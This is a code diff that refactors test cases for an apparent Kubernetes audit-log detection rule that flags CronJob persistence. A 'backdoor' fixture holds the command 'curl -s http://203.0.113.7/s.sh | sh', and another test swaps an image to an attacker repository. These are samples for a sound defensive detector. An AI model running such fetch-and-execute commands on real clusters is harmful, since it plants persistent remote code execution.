@@ -2,7 +2,7 @@ import { type AuditEvent } from '../../kubernetes/auditEvent';
 import { asObject, asString, getPath } from '../../kubernetes/jsonValues';
 import { objectName, workloadContainers, writtenObject } from '../../kubernetes/workloads';
 import { type AlertEntity, EntityType } from '../entities';
-import { auditEvent, container, cronJobObject } from '../exampleEvents';
+import { auditEvent, container, cronJobObject, workloadEvent, workloadPatchEvent } from '../exampleEvents';
 import { isSystemRequest } from '../predicates/identities';
 import { commandLineOf, imagesOf } from '../predicates/podSecurity';
 import { apiGroupOf, isResource, isWrite, namespaceOf, succeeded } from '../predicates/requests';
@@ -17,6 +17,8 @@ function writesCronJobSpec(event: AuditEvent): boolean {
 
 const backdoor = () =>
   container({ name: 'sync', image: 'docker.io/library/alpine:3.20', command: ['sh', '-c', 'curl -s http://203.0.113.7/s.sh | sh'] });
+
+const nightlyBackup = { namespace: 'data', name: 'nightly-backup' };
 
 export const cronjobPersistence = defineRule({
   id: 'cronjob-persistence',
@@ -68,50 +70,24 @@ export const cronjobPersistence = defineRule({
     {
       name: 'a user creates a CronJob that fetches and runs a script every minute',
       expect: 'alert',
-      event: auditEvent({
-        verb: 'create',
-        resource: 'cronjobs',
-        apiGroup: 'batch',
-        namespace: 'default',
-        requestObject: cronJobObject({ containers: [backdoor()], restartPolicy: 'OnFailure' }, 'log-sync', 'default', '* * * * *'),
-      }),
+      event: workloadEvent('cronjobs', { containers: [backdoor()], restartPolicy: 'OnFailure' }, { name: 'log-sync', schedule: '* * * * *' }),
     },
     {
       name: 'a patch swaps the image of an existing backup CronJob',
       expect: 'alert',
-      event: auditEvent({
-        verb: 'patch',
-        resource: 'cronjobs',
-        apiGroup: 'batch',
-        namespace: 'data',
-        name: 'nightly-backup',
-        requestObject: [
-          { op: 'replace', path: '/spec/jobTemplate/spec/template/spec/containers/0/image', value: 'docker.io/attacker/backup:latest' },
-        ],
-      }),
+      event: workloadPatchEvent('cronjobs', nightlyBackup, [
+        { op: 'replace', path: '/spec/jobTemplate/spec/template/spec/containers/0/image', value: 'docker.io/attacker/backup:latest' },
+      ]),
     },
     {
       name: 'a CronJob created in kube-system',
       expect: 'alert',
-      event: auditEvent({
-        verb: 'create',
-        resource: 'cronjobs',
-        apiGroup: 'batch',
-        namespace: 'kube-system',
-        requestObject: cronJobObject({ containers: [backdoor()], restartPolicy: 'OnFailure' }, 'etcd-defrag', 'kube-system'),
-      }),
+      event: workloadEvent('cronjobs', { containers: [backdoor()], restartPolicy: 'OnFailure' }, { namespace: 'kube-system', name: 'etcd-defrag' }),
     },
     {
       name: 'a label-only patch of a CronJob',
       expect: 'none',
-      event: auditEvent({
-        verb: 'patch',
-        resource: 'cronjobs',
-        apiGroup: 'batch',
-        namespace: 'data',
-        name: 'nightly-backup',
-        requestObject: { metadata: { labels: { team: 'data' } } },
-      }),
+      event: workloadPatchEvent('cronjobs', nightlyBackup, { metadata: { labels: { team: 'data' } } }),
     },
     {
       name: 'the cronjob controller updates the CronJob status',
@@ -121,39 +97,24 @@ export const cronjobPersistence = defineRule({
         resource: 'cronjobs',
         subresource: 'status',
         apiGroup: 'batch',
-        namespace: 'data',
-        name: 'nightly-backup',
+        ...nightlyBackup,
         user: 'system:serviceaccount:kube-system:cronjob-controller',
-        requestObject: {
-          ...cronJobObject({ containers: [container()] }, 'nightly-backup', 'data'),
-          status: { lastScheduleTime: '2026-11-02T02:00:00Z' },
-        },
+        requestObject: { ...cronJobObject({ containers: [container()] }, 'nightly-backup', 'data'), status: { lastScheduleTime: '2026-11-02T02:00:00Z' } },
       }),
     },
     {
       name: 'a system identity writes a CronJob',
       expect: 'none',
-      event: auditEvent({
-        verb: 'update',
-        resource: 'cronjobs',
-        apiGroup: 'batch',
-        namespace: 'kube-system',
-        name: 'cleanup',
-        user: 'system:serviceaccount:kube-system:addon-manager',
-        requestObject: cronJobObject({ containers: [container()] }, 'cleanup', 'kube-system'),
-      }),
+      event: workloadEvent(
+        'cronjobs',
+        { containers: [container()] },
+        { verb: 'update', namespace: 'kube-system', name: 'cleanup', user: 'system:serviceaccount:kube-system:addon-manager' },
+      ),
     },
     {
       name: 'a refused CronJob',
       expect: 'none',
-      event: auditEvent({
-        verb: 'create',
-        resource: 'cronjobs',
-        apiGroup: 'batch',
-        namespace: 'default',
-        code: 403,
-        requestObject: cronJobObject({ containers: [backdoor()] }, 'log-sync'),
-      }),
+      event: workloadEvent('cronjobs', { containers: [backdoor()] }, { name: 'log-sync', code: 403 }),
     },
   ],
 });
